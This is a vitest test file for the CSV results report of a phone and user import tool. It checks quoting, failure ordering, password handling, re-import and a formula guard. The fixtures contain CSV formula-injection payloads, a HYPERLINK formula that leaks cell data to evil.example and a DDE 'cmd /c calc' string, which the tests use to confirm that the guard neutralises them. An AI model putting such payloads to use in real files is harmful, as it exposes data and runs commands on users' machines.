import { randomBytes } from 'node:crypto';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { RowResult } from '../../../common/import/types';
import { loadDraft } from '../../../common/import/load';
import { rowLabel } from '../../../common/import/row-label';
import { neutraliseCell, restoreCell } from '../../../common/import/formula-guard';
import { initialStepState, rowResultsOf, type StepState } from '../../../main/import/batch-results';
import { matchHeader } from '../../../common/import/aliases';
import { buildReport, PERSON_REPORT_COLUMNS, REPORT_COLUMNS } from '../../../main/import/report';
import { createSealer } from '../../../main/secrets/journal-sealer';
import { PEOPLE_MAPPING, peopleSpec, person } from '../../support/people-spec';
import { deviceIdOf, documentOf, phone, specOf, stepOf, type RowPlan } from '../../support/batch-spec';
import { finish } from '../../../common/steps';

const hostile = { ...phone(2), name: '=HYPERLINK("http://evil.example/?"&A1,"Click")' };
const plans: RowPlan[] = [
  { action: 'create', phone: phone(1) },
  { action: 'create', phone: hostile },
  { action: 'create', phone: { ...phone(3), name: '@SUM(1+1)*cmd|"/c calc"!A0' } },
  { action: 'skip', phone: { ...phone(4), name: '-2+3' }, deviceId: 'd'.repeat(32) },
  { action: 'create', phone: { ...phone(5), name: 'Réception, "front" desk' } },
];

function resultsFor(spec: ReturnType<typeof specOf>): RowResult[] {
  const states = spec.units.map((unit) => unit.steps.map(initialStepState));
  const settle = (index: number, state: StepState) => (states[index]![0] = state);
  settle(0, { outcome: 'created', id: deviceIdOf(spec, 0), error: null });
  settle(1, { outcome: 'created', id: deviceIdOf(spec, 1), error: null });
  settle(2, {
    outcome: 'failed',
    id: null,
    error: {
      message: 'The server rejected the data: mac_address: MAC address already in use.',
      column: 'mac_address',
      fields: [{ column: 'mac_address', path: 'mac_address', message: 'MAC address already in use' }],
    },
  });
  settle(3, { outcome: 'skipped', id: deviceIdOf(spec, 3), error: null });
  return rowResultsOf(spec, states, { stopped: false });
}

/** Failures and rows not finished come first: the failed row 2 and the pending row 4, then the rest in sheet order. */
const REPORT_ORDER = [2, 4, 0, 1, 3];
const inSheetOrder = <T>(lines: T[]): T[] => REPORT_ORDER.map((_, row) => lines[REPORT_ORDER.indexOf(row)]!);

const parse = (csv: string): string[][] => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n', skipEmptyLines: true }).data;

describe('results report', () => {
  const spec = specOf(plans);
  const results = resultsFor(spec);

  it('is UTF-8 with a BOM, CRLF, RFC 4180 quoting, the failure reason first', () => {
    const { csv, fileName } = buildReport(spec, results, { includePasswords: false });
    expect(fileName).toBe('phones-results.csv');
    expect(csv.startsWith('\uFEFFfailure_reason,result,result_phone,device_id,Name,MAC,SIP user,SIP password,Caller ID\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/\n/);
    expect(csv).toContain('"Réception, ""front"" desk"');
    const [header, ...lines] = parse(csv);
    expect(header).toHaveLength(9);
    expect(lines.map((row) => row[1])).toEqual(['failed', 'not sent', 'created', 'created', 'skipped']);
    const rows = inSheetOrder(lines);
    expect(rows[0]![3]).toBe(deviceIdOf(spec, 0));
    // Each row names its phone as it is labelled, never by the device id alone.
    expect(rows[2]![2]).toBe(rowLabel(spec.sheetRows[2]!.name, results[2]!));
    expect(rows[2]![2]).toMatch(/^“.+” · MAC [0-9a-f:]{17} · SIP \S+$/);
    expect(rows[2]![0]).toBe('Column "MAC": The server rejected the data: mac_address: MAC address already in use.');
    expect(rows[4]![0]).toMatch(/^Not finished/);
  });

  it('neutralises every cell that a spreadsheet would run as a formula, keeping phone numbers as text', () => {
    const { csv } = buildReport(spec, results, { includePasswords: false });
    const rows = inSheetOrder(parse(csv).slice(1));
    expect(rows[1]![4]).toBe(`'${hostile.name}`);
    expect(rows[2]![4]).toBe('\'@SUM(1+1)*cmd|"/c calc"!A0');
    expect(rows[3]![4]).toBe("'-2+3");
    expect(rows[0]![8]).toBe("'+15125550001");
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    for (const value of ['\tcmd', '\r=1', '+1-512-555-0100', '=1+1', '@x', '-1']) {
      expect(neutraliseCell(value)).toBe(`'${value}`);
      expect(restoreCell(neutraliseCell(value))).toBe(value);
    }
    for (const value of ['Desk 1', "'quoted", '', '15125550100', 'a=b']) expect(neutraliseCell(value)).toBe(value);
    expect(restoreCell("'quoted")).toBe("'quoted");
  });

  it('gives SIP passwords only when asked, then including the generated ones', () => {
    const without = inSheetOrder(parse(buildReport(spec, results, { includePasswords: false }).csv).slice(1));
    expect(without.map((row) => row[7])).toEqual(['', '', '', '', '']);
    const withPasswords = inSheetOrder(parse(buildReport(spec, results, { includePasswords: true }).csv).slice(1));
    expect(withPasswords.map((row) => row[7])).toEqual(spec.rows.map((row) => row.cells[3]));

    // A file without password or username columns: generated credentials of created rows are appended.
    const bare = {
      ...spec,
      headers: ['Name', 'MAC'],
      mapping: spec.mapping.slice(0, 2),
      rows: spec.rows.map((row) => ({ ...row, cells: row.cells.slice(0, 2) })),
    };
    const [header, ...lines] = parse(buildReport(bare, results, { includePasswords: true }).csv);
    const [first, , failed] = inSheetOrder(lines);
    expect(header).toEqual(['failure_reason', 'result', 'result_phone', 'device_id', 'Name', 'MAC', 'sip_username', 'sip_password']);
    const step = stepOf(bare, 0);
    const sip = step.action === 'create' ? (step.document as ReturnType<typeof documentOf>).sip : undefined;
    expect(first!.slice(6)).toEqual([sip?.username, sip?.password]);
    expect(failed!.slice(6)).toEqual(['', '']);
    expect(parse(buildReport(bare, results, { includePasswords: false }).csv)[0]).toEqual([
      'failure_reason',
      'result',
      'result_phone',
      'device_id',
      'Name',
      'MAC',
      'sip_username',
    ]);
  });

  it('leaves out a column the technician ignored that holds passwords, unless passwords are asked for', () => {
    // "SIP Pass" left out of the import by choice, and a notes column that is kept as it is.
    const withIgnored = {
      ...spec,
      headers: [...spec.headers, 'Voicemail PIN', 'Notes'],
      mapping: [...spec.mapping, null, null],
      rows: spec.rows.map((row, index) => ({ ...row, cells: [...row.cells, `Vm${index}Pin!2024`, `desk ${index}`] })),
    };
    const [header, ...rows] = parse(buildReport(withIgnored, results, { includePasswords: false }).csv);
    expect(header).not.toContain('Voicemail PIN');
    expect(header).toContain('Notes');
    for (const row of rows) expect(row.join(',')).not.toMatch(/Vm\dPin/);
    const [headerWith, ...linesWith] = parse(buildReport(withIgnored, results, { includePasswords: true }).csv);
    const [firstWith] = inSheetOrder(linesWith);
    expect(headerWith).toContain('Voicemail PIN');
    expect(firstWith).toContain('Vm0Pin!2024');
  });

  it('goes back into the importer as it is: report columns listed as ignored, the technician columns mapped', () => {
    const { csv } = buildReport(spec, results, { includePasswords: true });
    const loaded = finish(loadDraft({ id: 'again', fileName: 'phones-results.csv', bytes: new TextEncoder().encode(csv) }));
    if (!loaded.ok) throw new Error(loaded.error.message);
    const draft = loaded.value;
    expect(draft.headers.slice(4)).toEqual(spec.headers);
    expect(draft.mapping.slice(0, 4)).toEqual([null, null, null, null]);
    expect(draft.ignoredColumns).toEqual(expect.arrayContaining(['failure_reason', 'result', 'result_phone', 'device_id']));
    // The importer takes the guard's quote off again: the cells come back exactly as the technician wrote them.
    expect(inSheetOrder(draft.rows.map((row) => row.cells.slice(4)))).toEqual(spec.rows.map((row) => row.cells));
  });
});

describe('results report of people', () => {
  const people = [person(1), person(2), person(3)];
  const spec = peopleSpec(people);
  const states = spec.units.map((unit) => unit.steps.map(initialStepState));
  // Person 1 complete; person 2's phone failed and the rest was rolled back; person 3 not sent yet.
  spec.units[0]!.steps.forEach((step, index) => {
    if (step.action === 'create') states[0]![index] = { outcome: 'created', id: step.id, error: null };
  });
  const refused = {
    message: 'The server rejected the data: mac_address: MAC address already in use.',
    column: 'mac_address' as const,
    fields: [],
  };
  states[1] = [
    {
      outcome: 'rolled_back',
      id: people[1]!.ids.user,
      error: { message: 'Rolled back (deleted) because Pdesk 20 failed.', column: null, fields: [] },
    },
    {
      outcome: 'rolled_back',
      id: people[1]!.ids.vmbox,
      error: { message: 'Rolled back (deleted) because Pdesk 20 failed.', column: null, fields: [] },
    },
    { outcome: 'failed', id: null, error: refused },
    { outcome: 'failed', id: null, error: { message: 'Not sent: Pdesk 20 failed.', column: null, fields: [] } },
  ];
  const results = rowResultsOf(spec, states, { stopped: true });

  it('says the state of each document, failures first, and goes back into the importer as it is', () => {
    const { csv } = buildReport(spec, results, { includePasswords: false });
    const [header, ...lines] = parse(csv);
    expect(header!.slice(0, 11)).toEqual([...REPORT_COLUMNS, ...PERSON_REPORT_COLUMNS]);
    for (const column of header!.slice(0, 11)) expect(matchHeader(column), column).toBeNull();
    expect(lines.map((line) => [line[1], ...line.slice(4, 11)])).toEqual([
      ['failed', 'rolled back', 'rolled back', 'failed', 'failed', '', '', ''],
      ['not sent', 'not sent', 'not sent', 'not sent', 'not sent', '', '', ''],
      ['created', 'created', 'created', 'created', 'created', people[0]!.ids.user, people[0]!.ids.vmbox, people[0]!.ids.callflow],
    ]);
    expect(lines[0]![0]).toMatch(
      /^Column "MAC": The server rejected the data: .* Rolled back \(deleted\): First2 PLast2, First2 PLast2's VMBox\.$/,
    );
    expect(lines[0]![3]).toBe('');

    const loaded = finish(loadDraft({ id: 'again', fileName: 'people-results.csv', bytes: new TextEncoder().encode(csv) }));
    if (!loaded.ok) throw new Error(loaded.error.message);
    expect(loaded.value.mapping).toEqual([...Array<null>(11).fill(null), ...PEOPLE_MAPPING]);
  });

  it('gives generated user passwords and voicemail PINs only when asked, and only for what was created', () => {
    const without = parse(buildReport(spec, results, { includePasswords: false }).csv);
    expect(without[0]).not.toContain('user_password');
    expect(without.flat().join(',')).not.toContain(people[0]!.password);
    const [header, ...lines] = parse(buildReport(spec, results, { includePasswords: true }).csv);
    expect(header!.slice(-2)).toEqual(['user_password', 'vm_pin']);
    expect(lines.map((line) => line.slice(-2))).toEqual([
      ['', ''],
      ['', ''],
      [people[0]!.password, people[0]!.pin],
    ]);
    const loaded = finish(
      loadDraft({
        id: 'again',
        fileName: 'people-results.csv',
        bytes: new TextEncoder().encode(buildReport(spec, results, { includePasswords: true }).csv),
      }),
    );
    if (!loaded.ok) throw new Error(loaded.error.message);
    expect(loaded.value.mapping.slice(-2)).toEqual(['user_password', 'vm_pin']);
  });

  it("leaves the sheet's password and PIN of a person already on the account out, even when asked: they were never applied", () => {
    const known = person(4);
    const sheet = peopleSpec([known]);
    sheet.headers = [...sheet.headers, 'User password', 'VM PIN'];
    sheet.mapping = [...sheet.mapping, 'user_password', 'vm_pin'];
    sheet.rows = sheet.rows.map((row) => ({ ...row, cells: [...row.cells, 'Sheet-Pass-4', '482913'] }));
    const [userStep, vmboxStep, ...rest] = sheet.units[0]!.steps;
    sheet.units[0]!.steps = [
      { ...userStep!, action: 'skip', id: known.ids.user, reason: 'Already on the account.' },
      { ...vmboxStep!, action: 'skip', id: known.ids.vmbox, reason: 'Already on the account.' },
      ...rest,
    ];
    const done = sheet.units[0]!.steps.map((step) => ({
      outcome: step.action === 'skip' ? ('skipped' as const) : ('created' as const),
      id: step.action === 'error' ? null : step.id,
      error: null,
    }));
    const [header, line] = parse(buildReport(sheet, rowResultsOf(sheet, [done], { stopped: false }), { includePasswords: true }).csv);

    expect(line![header!.indexOf('User password')]).toBe('');
    expect(line![header!.indexOf('VM PIN')]).toBe('');
    expect(line![header!.indexOf('SIP password')]).toBe(known.phones[0]!.password);
  });
});

describe('the report of a batch whose documents hold sealed passwords (an undo re-creates what it deleted)', () => {
  const sealer = createSealer(randomBytes(32), 'memory');
  const plain = specOf(plans);
  const sealed = {
    ...plain,
    origin: 'undo' as const,
    headers: [],
    mapping: [],
    rows: [],
    units: plain.units.map((unit) => ({
      ...unit,
      steps: unit.steps.map((step) => {
        if (step.action !== 'create') return step;
        const sip = (step.document as ReturnType<typeof documentOf>).sip;
        return { ...step, document: { ...step.document, sip: { ...sip, password: sealer.seal(sip?.password) } } };
      }),
    })),
  };
  const results = resultsFor(sealed);
  const passwordOf = (row: number) => {
    const step = stepOf(plain, row);
    return step.action === 'create' ? (step.document as ReturnType<typeof documentOf>).sip?.password : undefined;
  };
  const cells = (options: Parameters<typeof buildReport>[2]) => {
    const [header = [], ...lines] = parse(buildReport(sealed, results, options).csv);
    const column = header.indexOf('sip_password');
    return { column, first: column === -1 ? undefined : inSheetOrder(lines)[0]![column], csv: buildReport(sealed, results, options).csv };
  };

  it('opens them with the sealer when passwords are asked for', () => {
    expect(cells({ includePasswords: true, sealer }).first).toBe(passwordOf(0));
  });

  it('never gives an object or the sealed text: no passwords asked, no sealer, or one that cannot open them', () => {
    const otherKey = createSealer(randomBytes(32), 'memory');
    for (const options of [{ includePasswords: false, sealer }, { includePasswords: true }, { includePasswords: true, sealer: otherKey }]) {
      const { column, csv } = cells(options);
      expect(column).toBe(-1);
      expect(csv).not.toMatch(/\$sealed|\[object Object\]/);
    }
  });
});
